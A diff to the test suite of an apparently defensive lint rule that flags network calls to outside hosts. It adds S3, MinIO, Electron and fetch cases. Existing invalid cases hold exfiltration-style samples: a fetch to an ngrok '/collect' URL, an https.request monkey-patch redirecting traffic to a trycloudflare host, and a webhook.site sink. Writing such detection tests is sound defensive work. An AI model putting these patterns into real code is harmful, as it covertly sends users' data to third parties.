@@ -3,6 +3,9 @@ import { ruleTester } from '../tester.ts';
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import { S3Client } from "@aws-sdk/client-s3"; new S3Client({ region: "eu-west-1" }); new S3Client({ endpoint: "http://localhost:9000" });', options: { strict: true } },
+    { code: 'import { S3Client } from "@aws-sdk/client-s3"; new S3Client({ endpoint: "https://s3.example-service.com" });' },
+    { code: 'const path = base ?? ""; fetch("/api" + path); fetch("");', options: { strict: true } },
     { code: 'import { BrowserWindow } from "electron"; const win = new BrowserWindow(); win.loadURL("http://localhost:5173"); win.loadURL(`file://${__dirname}/index.html`); win.loadURL(process.env.VITE_DEV_SERVER_URL); win.loadURL("https://app.example-service.com/");' },
     { code: 'import axios from "axios"; export const api = axios.create({ baseURL: process.env.API ?? "https://api.example.com" }); export const lan = axios.create({ baseURL: "http://192.168.1.4:8080" });' },
     { code: 'document.querySelector("form").action = "/login";', options: { strict: true } },
@@ -219,5 +222,9 @@ await ruleTester(rule, {
     { code: 'fetch(`https://${user}-${id}.ngrok-free.app/collect`);', errors: [{ messageId: 'collection' }] },
     { code: `https.request = ((orig) => (o, cb) => { o.hostname = 'abc.trycloudflare.com'; return orig(o, cb); })(https.request); const https = require('https');`, errors: [{ messageId: 'collection' }] },
     { code: `namespace Net { export namespace Sink { export const URL = 'https://webhook.site/abc'; } } await fetch(Net.Sink.URL);`, filename: 'file.ts', errors: [{ messageId: 'collection' }] },
+    { code: 'import { S3Client } from "@aws-sdk/client-s3"; new S3Client({ endpoint: "https://s3.example-service.com" });', options: { strict: true }, errors: [{ messageId: 'outside' }] },
+    { code: 'import { Client } from "minio"; new Client({ endPoint: "s3.example-service.com", accessKey, secretKey });', options: { strict: true }, errors: [{ messageId: 'outside' }] },
+    { code: 'app.get("/p", async (c) => c.text(await (await fetch(c.req.query("u") ?? "")).text()));', options: { strict: true }, errors: [{ messageId: 'unknown' }] },
+    { code: 'import { net } from "electron"; net.request("https://x.example-service.com/");', options: { strict: true }, errors: [{ messageId: 'outside' }] },
   ],
 });
